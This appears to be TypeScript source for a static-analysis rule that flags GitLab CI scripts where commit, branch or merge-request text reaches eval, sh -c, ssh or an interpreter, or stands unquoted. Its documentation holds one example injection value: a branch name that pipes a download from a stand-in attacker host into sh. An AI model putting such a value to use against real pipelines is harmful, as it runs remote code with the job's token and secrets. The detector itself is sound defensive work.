import type { ShellCommand, ShellWord } from "../../engines/pipelines/model.ts";
import { interpreters, shells } from "./dockerfile/runners.ts";
import { gitlabCheck } from "./gitlab/gitlab-check.ts";
import { commandsOf, placeIn } from "./gitlab/parts.ts";
import { isFreeText } from "./gitlab/variables.ts";

/** Within `[[ … ]]` nothing is split. */
function isTest(command: ShellCommand): (other: ShellCommand) => boolean {
  return (other) => other === command && command.words[0]?.text === "[[";
}

/** Which words of the command are read as commands once more; undefined where none is. */
function readsAgain({ program = "", arguments: words }: ShellCommand): ((word: ShellWord) => boolean) | undefined {
  if (program === "eval") return () => true;
  if (program === "ssh") {
    // Behind the host stands what the other shell reads.
    const host = words.findIndex(
      ({ text }, at) => !text.startsWith("-") && !/^-[a-zA-Z]$/.test(words[at - 1]?.text ?? ""),
    );
    return host < 0 ? undefined : (word) => words.indexOf(word) > host;
  }
  if (!shells.has(program) && !interpreters.test(program)) return undefined;
  const at = words.findIndex(({ text }) => /^-[a-z]*[ce]$/.test(text));
  return at < 0 ? undefined : (word) => word === words[at + 1];
}

/** Texts of commits, branches and merge requests that a shell of a job reads as commands or as several words. */
export const gitlabScriptInjection = gitlabCheck({
  name: "gitlab-script-injection",
  title: "Untrusted text in job scripts",
  severity: "high",
  scripts: true,
  documentation: {
    what: "Checks scripts of a GitLab pipeline for predefined variables that whoever pushes a commit or opens a merge request decides (`CI_COMMIT_MESSAGE`, `CI_MERGE_REQUEST_TITLE`, `CI_COMMIT_REF_NAME` and their like): as part of a text that `eval`, `sh -c`, `ssh` or an interpreter runs, and outside of quotes. Not reported: double-quoted arguments of other commands, and plain assignments. Severity: high where the text is run, low where it may become several words.",
    why: "A branch named `$(curl attacker.example|sh)` is run where a shell reads it a second time, with the token and secrets of the job. Outside of quotes its words become options of the command.",
    fix: "Put the variable into double quotes, and hand it to other programs as an argument or in the environment, never within their text.",
    references: [
      "https://docs.gitlab.com/ci/variables/predefined_variables/",
      "https://docs.gitlab.com/ci/pipeline_security/",
    ],
  },
  *detect(pipeline) {
    /** What `sh -c` is given is taken apart as well. */
    const reported = new Set<string>();
    for (const { command, line, job } of commandsOf(pipeline)) {
      const again = readsAgain(command);
      const words = [...command.arguments, ...command.redirections.map(({ target }) => target)];
      // A word of the variable alone is the program.
      if (command.programWord !== undefined && !command.programWord.literal) words.push(command.programWord);
      for (const word of words) {
        for (const { kind, name, quoted, range } of word.expansions) {
          if (kind !== "parameter" || !isFreeText(name)) continue;
          const isRun = again?.(word) === true;
          if (!isRun && (quoted === true || line.commands.some(isTest(command)))) continue;
          const place = placeIn(line, range);
          const key = `${place.path}:${place.start}`;
          if (reported.has(key)) continue;
          reported.add(key);
          yield {
            subject: `$${name} ${isRun ? `run by ${command.program ?? "a shell"}` : "outside of quotes"}`,
            title: isRun
              ? `$${name} is part of a text that ${command.program ?? "a shell"} runs`
              : `$${name} stands outside of quotes`,
            place,
            job,
            severity: isRun ? "high" : "low",
            fix: isRun ? `hand $${name} over as an argument or in the environment` : `write "$${name}"`,
          };
        }
      }
    }
  },
});
